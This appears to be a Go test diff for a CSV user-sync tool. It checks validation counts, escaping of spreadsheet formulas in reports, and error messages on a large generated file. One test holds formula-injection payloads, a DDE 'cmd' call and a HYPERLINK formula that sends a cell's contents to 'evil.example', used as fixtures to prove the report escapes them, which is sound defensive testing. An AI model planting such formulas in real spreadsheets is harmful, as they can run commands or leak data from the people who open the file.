+		if rowBad {
+			bad++
+		}
+	}
+	if errs != v.Errors() || warns != v.Warnings() || bad != v.RowsWithErrors() || len(v.Messages()) != errs+warns {
+		t.Fatalf("counted %d errors, %d warnings, %d bad rows; validation says %d, %d, %d and %d messages",
+			errs, warns, bad, v.Errors(), v.Warnings(), v.RowsWithErrors(), len(v.Messages()))
+	}
+}
+
+// TestHostileFormulasReachTheReportEscaped: cells of formulas_in_cells.csv
+// that a spreadsheet would run are read as data, saved back as they were
+// (the operator's own file), and escaped in the report.
+func TestHostileFormulasReachTheReportEscaped(t *testing.T) {
+	f, err := csvfile.Open("testdata/hostile/formulas_in_cells.csv", coursedog.NewSchema(nil, nil), csvfile.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		row       int
+		key, want string
+	}{
+		{0, "firstName", "=cmd|' /C calc'!A0"},
+		{0, "externalId", "@SUM(1+1)*cmd|' /C calc'!A0"},
+		{1, "lastName", "-Turing"},
+		{1, "email", "-alan@example.edu"},
+		{1, "externalId", `=HYPERLINK("http://evil.example/?"&A1,"open")`},
+		{2, "email", "+grace@example.edu"},
+	} {
+		if got := f.Value(c.row, c.key); got != c.want {
+			t.Errorf("row %d %s = %q, want %q", c.row, c.key, got, c.want)
+		}
+		if got := csvfile.EscapeFormula(c.want); got != "'"+c.want {
+			t.Errorf("EscapeFormula(%q) = %q", c.want, got)
+		}
+	}
+	v := csvfile.Validate(f)
+	p, err := sync.NewPlan("coursedog", f, v, nil, sync.PlanOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	run := &sync.Run{}
+	for _, r := range p.Rows {
+		run.Outcomes = append(run.Outcomes, sync.Outcome{Row: r.Row, Line: r.Line, Email: r.Email, Action: r.Action,
+			Result: sync.Created, Message: "created " + r.Email})
+	}
+	report := filepath.Join(t.TempDir(), "report.csv")
+	if err := sync.WriteReport(report, p, run); err != nil {
+		t.Fatal(err)
+	}
+	data, err := os.ReadFile(report)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cells, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	emails := []string{}
+	for _, row := range cells[1:] {
+		emails = append(emails, row[1])
+	}
+	if want := []string{"ada.lovelace@example.edu", "'-alan@example.edu", "'+grace@example.edu"}; !slices.Equal(emails, want) {
+		t.Errorf("report emails %q, want %q", emails, want)
+	}
+}
+
+// TestHostileBigFile validates a generated file through `usersync validate`
+// and checks every line it prints: a few planted problems (an email again
+// in the last row, naming line 2; a near-miss product; a cell over two
+// lines in the middle, which moves every later line by one) among clean
+// rows. The file is written to a temporary folder, never committed. By
+// default it is 20 MB (seconds under -race on 2 cores); USERSYNC_BIG=1
+// makes it 200 MB (about a minute under -race, see SECURITY.md §6).
+func TestHostileBigFile(t *testing.T) {
+	size := 20 << 20
+	if os.Getenv("USERSYNC_BIG") == "1" {
+		size = 200 << 20
+	}
+	path := filepath.Join(t.TempDir(), "big.csv")
+	fh, err := os.Create(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := bufio.NewWriterSize(fh, 1<<20)
+	written, line := 0, 1
+	put := func(b []byte) {
+		w.Write(b)
+		written += len(b)
+		line += bytes.Count(b, []byte("\n"))
+	}
+	put([]byte("First Name,Last Name,Email,Products,Unique ID,Department,Secondary Departments,Role IDs,Notes\n"))
+	var rows, nearMissLine, lastLine int
+	multiline := false
+	var b []byte
+	for i := 0; written < size; i++ {
+		id := strconv.AppendInt(nil, int64(i), 10)
+		email := "user" + string(id) + "@example.edu"
+		products, notes := `"scheduling, events"`, ""
+		switch {
+		case i == 0:
+			email = "twin@example.edu"
+		case !multiline && written >= size/2:
+			notes, multiline = "\"first line\nsecond line\"", true
+		case nearMissLine == 0 && written >= size*3/4:
+			products, nearMissLine = "schedulng", line
+		}
+		if written+100 >= size {
+			email, lastLine = "TWIN@Example.edu", line
+		}
+		b = append(b[:0], "First"...)
+		b = append(append(b, id...), ",Last"...)
+		b = append(append(b, id...), ',')
+		b = append(append(b, email...), ',')
+		b = append(append(b, products...), ",U"...)
+		b = append(append(b, id...), ",Mathematics,,,"...)
+		b = append(append(b, notes...), '\n')
+		put(b)
+		rows++
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	if err := fh.Close(); err != nil {
+		t.Fatal(err)
+	}
+	start := time.Now()
+	code, stdout, stderr := runOffline(t, "validate", path)
+	t.Logf("validate of %d MB, %d rows: %v", written>>20, rows, time.Since(start).Round(time.Millisecond))
+	var got []string
+	for _, l := range strings.Split(stderr, "\n") {
+		if l != "" && !groupTitle.MatchString(l) {
+			got = append(got, l)
+		}
+	}
+	want := []string{
+		fmt.Sprintf("%s: %d rows for coursedog (UTF-8, comma-delimited)", path, rows),
+		fmt.Sprintf("%s:2: Email: this email is also on line %d", path, lastLine),
+		fmt.Sprintf(`%s:%d: Products: "schedulng" is not a product key; did you mean "scheduling"?`, path, nearMissLine),
+		`    fix: use "scheduling"`,
+		fmt.Sprintf("%s:%d: Email: this email is also on line 2", path, lastLine),
+		fmt.Sprintf(`%s:1: Notes: "Notes" is not a coursedog column; it is kept but not imported`, path),
+		fmt.Sprintf("%s: %d rows valid, 3 rows with errors; 3 errors, 1 warning", path, rows-3),
+	}
+	if code != exitRowsFailed || stdout != "" || !slices.Equal(got, want) {
+		t.Errorf("exit %d, stdout %q, lines\n%s\nwant\n%s", code, stdout, strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}
